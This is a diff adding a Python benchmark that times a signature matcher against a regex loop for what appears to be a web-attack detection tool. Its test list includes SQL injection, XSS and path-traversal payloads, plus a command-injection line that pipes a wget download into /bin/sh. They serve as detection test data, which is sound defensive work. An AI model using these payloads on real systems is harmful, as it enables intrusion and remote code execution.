@@ -0,0 +1,156 @@
+#!/usr/bin/env python3
+"""Benchmark and check: the literal-prefiltered signature matcher against a regex loop.
+
+Builds signature tables from the payload rules of ``default.rules`` plus
+generated signatures in the same style (keywords before ``\\s*\\(``, tag and
+handler patterns, ``a.*b`` pairs, a few with no usable literal) and matches a mix
+of clean form/JSON bodies and attack payloads. Checks that
+``SignatureMatcher.matches`` reports exactly the signatures the per-pattern
+loop reports, then times, per payload:
+
+  re.search   the old loop, ``re.search(pattern, ...)`` for every pattern
+              (past 512 patterns the ``re`` cache no longer holds them all)
+  compiled    the same loop over precompiled regexes
+  matcher     one literal scan, then only the candidate regexes
+
+Usage: python benchmarks/bench_signatures.py [--payloads N] [--sizes 20,100,...]
+"""
+import argparse
+import random
+import re
+import string
+import sys
+import time
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+from sentinel_core.analysis.attack_classifier import AttackClassifier  # noqa: E402
+from sentinel_core.analysis.rules import load_rules, DEFAULT_RULES_PATH  # noqa: E402
+from sentinel_core.analysis.signatures import SIGNATURE_FLAGS, SignatureMatcher  # noqa: E402
+
+ATTACKS = (
+    "id=1' OR '1'='1",
+    "q=1 UNION SELECT password FROM users",
+    "name=<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "file=../../../../etc/passwd",
+    "cmd=;wget http://x/a.sh | /bin/sh",
+    "download=payload.exe",
+    "ua=mimikatz",
+    "x=%2e%2e%2fwindows",
+)
+
+
+def words(rng: random.Random, count: int):
+    vocabulary = set()
+    while len(vocabulary) < count:
+        vocabulary.add("".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randint(5, 10))))
+    return sorted(vocabulary)
+
+
+def signature_table(size: int, vocabulary, rng: random.Random):
+    table = {f"sid:{rule.sid}": [rule.payload] for rule in load_rules(DEFAULT_RULES_PATH).payload_rules}
+    templates = (
+        r"{0}\s*\(",
+        r"(?:{0}|{1})[^>]*>",
+        r"<{0}[^>]*on\w+=",
+        r"{0}.*{1}",
+        r"/{0}/[a-z_]+\.(php|asp)",
+        r"{0}=[\"']?\d+",
+    )
+    generated = []
+    for i in range(size - sum(map(len, table.values()))):
+        if i % 500 == 499:
+            generated.append(r"\b[0-9a-f]{%d}\b" % (40 + i // 500))
+        else:
+            generated.append(rng.choice(templates).format(rng.choice(vocabulary), rng.choice(vocabulary)))
+    table["generated"] = generated
+    return table
+
+
+def payloads(count: int, vocabulary, rng: random.Random):
+    out = []
+    for i in range(count):
+        fields = [f"{rng.choice(vocabulary)}={rng.randint(0, 10**6)}" for _ in range(rng.randint(20, 120))]
+        if i % 3 == 0:
+            body = "&".join(fields)
+        else:
+            body = "{" + ", ".join(f'"{field.split("=")[0]}": "lorem ipsum {field}"' for field in fields) + "}"
+        if i % 4 == 0:
+            body += "&" + rng.choice(ATTACKS)
+        if i % 5 == 0:
+            body += f" {rng.choice(vocabulary)}(1)"
+        out.append(f"/api/{i}?page={i % 7}\nhost: bench.example\nuser-agent: bench\n{body}")
+    return out
+
+
+def search(signature, payload: str, compiled: bool = False) -> bool:
+    """One signature (a regex string, or a tuple of compiled regexes that must all match)."""
+    if isinstance(signature, str):
+        return bool(re.search(signature, payload, SIGNATURE_FLAGS))
+    if compiled:
+        return all(regex.search(payload) for regex in signature)
+    return all(re.search(regex.pattern, payload, regex.flags) for regex in signature)
+
+
+def loop(table, payload, compiled: bool = False):
+    return [(key, signature) for key, signatures in table.items() for signature in signatures
+            if search(signature, payload, compiled)]
+
+
+def timed(function, items, budget: float = 1.0):
+    """Microseconds per item, stopping early once ``budget`` seconds are spent."""
+    start = time.perf_counter()
+    done = 0
+    for item in items:
+        function(item)
+        done += 1
+        if time.perf_counter() - start > budget:
+            break
+    return (time.perf_counter() - start) / done * 1e6
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--payloads", type=int, default=600)
+    parser.add_argument("--sizes", default="20,100,500,1000,2000,5000")
+    args = parser.parse_args()
+    rng = random.Random(7)
+    vocabulary = words(rng, 4000)
+    corpus = payloads(args.payloads, vocabulary, rng)
+    print(f"{args.payloads} payloads, {sum(map(len, corpus)) // len(corpus)} chars on average")
+
+    print(f"{'signatures':>10} {'literals':>8} {'build ms':>8} {'re.search':>11} {'compiled':>11} "
+          f"{'matcher':>11} {'regexes run':>11}")
+    for size in map(int, args.sizes.split(",")):
+        table = signature_table(size, vocabulary, rng)
+        start = time.perf_counter()
+        matcher = SignatureMatcher(table)
+        build = (time.perf_counter() - start) * 1e3
+        compiled = {key: [signature if isinstance(signature, tuple) else (re.compile(signature, SIGNATURE_FLAGS),)
+                          for signature in signatures] for key, signatures in table.items()}
+
+        matched = 0
+        for payload in corpus[:100]:
+            expected = loop(table, payload)
+            assert list(matcher.matches(payload)) == expected, (size, payload[-80:])
+            matched += bool(expected)
+        assert matched, "the corpus must contain matches"
+
+        matcher = SignatureMatcher(table)
+        naive = timed(lambda payload: loop(table, payload), corpus)
+        precompiled = timed(lambda payload: loop(compiled, payload, compiled=True), corpus)
+        fast = timed(lambda payload: list(matcher.matches(payload)), corpus, budget=float("inf"))
+        stats = matcher.get_stats()
+        print(f"{size:>10} {stats['literals']:>8} {build:>8.0f} {naive:>8.0f} us {precompiled:>8.0f} us "
+              f"{fast:>8.0f} us {stats['regex_runs'] / stats['payloads']:>11.1f}")
+
+    for attack in ATTACKS:
+        attack_type, _, _ = AttackClassifier.classify_payload(attack)
+        assert attack_type.name != "NORMAL", attack
+    print(f"classify_payload stats: {AttackClassifier.rule_engine().plan.payload_matchers[None].get_stats()}")
+
+
+if __name__ == "__main__":
+    main()